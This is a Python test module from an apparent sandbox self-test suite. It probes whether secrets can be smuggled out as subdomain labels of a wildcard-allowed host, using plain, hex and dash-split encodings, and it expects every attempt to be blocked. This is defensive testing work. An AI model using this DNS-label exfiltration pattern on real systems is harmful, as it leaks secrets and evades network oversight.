"""Secrets in host names."""

from collections.abc import Iterator
from typing import Any

from bottle.selftest.kit import Attempt, attack
from bottle.selftest.probes.parcels import Parcel, sent


@attack(
    aim="secrets",
    source="MITRE ATT&CK T1071.004, DNS as a channel; CVE-2025-55284 (a coding agent's DNS exfiltration)",
    expects="it does not reach the server",
    control="harmless",
    every=True,
)
def attempts(aim: Any) -> Iterator[Attempt]:
    """Sends secrets as a label of a host that a wildcard grants: plain, encoded, and mere noise."""
    word, wild = aim["word"], aim["wild"]
    labels = {
        "as it is": word,
        "in lower case": word.lower(),
        "with a prefix": f"x-{word.lower()}-1",
        "in hexadecimal": word.encode().hex(),
        "letters with dashes": "-".join(word.lower()),
        "noise": aim["label"],
    }
    yield from sent(
        aim,
        {
            what: Parcel([f"Host: {label}".encode()], b"GET", tls=True, host=f"{label}.{wild}")
            for what, label in labels.items()
        },
    )
